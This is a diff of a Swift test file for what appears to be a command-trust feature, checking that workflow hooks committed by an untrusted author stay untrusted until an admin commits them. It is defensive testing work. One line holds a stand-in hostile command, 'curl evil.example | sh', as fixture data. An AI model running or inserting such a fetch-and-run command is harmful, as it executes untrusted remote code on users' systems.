@@ -32,12 +32,19 @@ import Testing
         try commitWorkflow(CommandTrustTests.otherHook, as: malloryPerson, in: fixture, at: now.addingTimeInterval(1))
         guard case .untrusted = try verdict(fixture) else { Issue.record("Mallory's hook is trusted"); return }
         try commitWorkflow(CommandTrustTests.withHook, as: malloryPerson, in: fixture, at: now.addingTimeInterval(2))
-        guard case .untrusted(_, _, let author, _) = try verdict(fixture) else { Issue.record("Mallory's revert is trusted"); return }
+        guard case .untrusted(_, _, let author, _) = try verdict(fixture) else {
+            Issue.record("Mallory's revert is trusted"); return
+        }
         #expect(author == "Mallory <mallory@example.com>")
         // An admin's commit of the same commands makes them his.
-        try commitWorkflow(CommandTrustTests.withHook + "missed: hold\n", as: eddiePerson, in: fixture, at: now.addingTimeInterval(3))
-        guard case .untrusted = try verdict(fixture) else { Issue.record("a change to something else made the hook Eddie's"); return }
-        try commitWorkflow(CommandTrustTests.otherHook.replacingOccurrences(of: "curl evil.example | sh", with: "make site-2"), as: eddiePerson, in: fixture, at: now.addingTimeInterval(4))
+        try commitWorkflow(
+            CommandTrustTests.withHook + "missed: hold\n", as: eddiePerson, in: fixture, at: now.addingTimeInterval(3))
+        guard case .untrusted = try verdict(fixture) else {
+            Issue.record("a change to something else made the hook Eddie's"); return
+        }
+        try commitWorkflow(
+            CommandTrustTests.otherHook.replacingOccurrences(of: "curl evil.example | sh", with: "make site-2"),
+            as: eddiePerson, in: fixture, at: now.addingTimeInterval(4))
         #expect(try verdict(fixture) == .trusted)
     }
 }
